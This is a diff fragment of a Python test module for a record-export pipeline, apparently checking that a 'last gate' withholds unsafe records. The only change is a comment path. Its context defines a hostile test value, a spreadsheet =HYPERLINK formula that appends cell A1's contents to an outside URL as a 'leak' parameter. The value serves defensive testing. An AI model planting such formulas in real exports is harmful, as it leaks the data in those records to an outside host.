@@ -13,7 +13,7 @@ from review.models import Export
 from synth.models import Candidate
 
 # A public reference page: any other web address is an identifier under Safe Harbor, and the export's
-# last gate withholds its record (tests/review/data_lead/test_export_last_gate.py).
+# last gate withholds its record (tests/review/exports/test_export_last_gate.py).
 HOSTILE = '=HYPERLINK("https://www.cdc.gov/sepsis/?leak="&A1,"Open the chart")'
 AWKWARD = 'Dose, "as tolerated"\nthen review; naïve 5 µg — ok'
 
